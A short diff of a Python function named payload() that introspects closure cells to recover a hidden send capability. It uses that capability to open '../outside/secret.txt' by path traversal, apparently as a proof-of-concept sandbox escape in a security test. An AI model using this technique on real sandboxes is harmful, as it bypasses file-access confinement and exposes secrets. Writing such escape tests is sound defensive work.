@@ -22,7 +22,11 @@ def payload():
                          if type(c.cell_contents).__name__ == 'function')
         send = next(c.cell_contents for c in call_open.__closure__
                     if type(c.cell_contents).__name__ == 'builtin_function_or_method')
-        ok, fd = send.__self__.send((('../outside/secret.txt', os.O_RDONLY, 0), {'dir_fd': d}))
+        request = (('../outside/secret.txt', os.O_RDONLY, 0), {'dir_fd': d})
+        got = send.__self__.send(request)
+        if callable(got):  # the factory of one-shot generators hands one out
+            got = got(request)
+        ok, fd = got
         if not ok:
             raise fd
     data = os.read(fd, 100)
